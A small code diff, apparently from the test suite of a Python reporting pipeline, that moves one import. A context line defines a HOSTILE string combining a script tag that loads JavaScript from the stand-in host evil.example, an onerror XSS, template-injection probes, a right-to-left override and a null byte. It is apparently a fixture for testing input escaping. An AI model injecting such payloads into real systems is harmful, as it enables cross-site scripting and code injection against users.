@@ -20,8 +20,8 @@ from controller_pipeline.reports.facts import (
     Uptime,
     Value,
 )
-from controller_pipeline.reports.listings import LISTINGS
 from controller_pipeline.reports.period import DAY, HOUR, MINUTE, SECOND, Period, grid_of
+from controller_pipeline.reports.selection.listings import LISTINGS
 
 BEGAN = datetime(2026, 11, 20, tzinfo=UTC)
 HOSTILE = "\"><script src='http://evil.example/x.js'></script><img src=x onerror=alert(1)>'`${7*7}{{7*7}}\u202e\x00"
